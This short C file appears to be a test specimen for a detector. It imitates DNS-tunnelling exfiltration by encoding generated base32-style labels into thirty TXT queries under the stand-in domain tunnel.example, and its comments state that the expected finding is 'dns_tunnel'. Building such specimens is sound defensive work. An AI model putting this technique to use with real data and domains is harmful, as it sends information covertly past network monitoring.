// Trait: carries data out in the names that it asks DNS for.
// Reported: dns_tunnel; thirty questions for names under tunnel.example.
// Harmless: the data are made up here, and only the test's resolver is asked.
#include <resolv.h>

#include "specimen.h"

int main(void) {
  specimen_in_cell();
  uint32_t state = 4711;
  for (int i = 0; i < 30; ++i) {
    char label[53], name[128];
    for (int k = 0; k < 52; ++k) {
      state = state * 1664525u + 1013904223u;
      label[k] = "abcdefghijklmnopqrstuvwxyz234567"[state >> 27];
    }
    label[52] = '\0';
    snprintf(name, sizeof name, "%s.%d.tunnel.example", label, i);
    unsigned char answer[512];
    res_query(name, 1 /* IN */, 16 /* TXT */, answer, sizeof answer);
  }
  return 0;
}
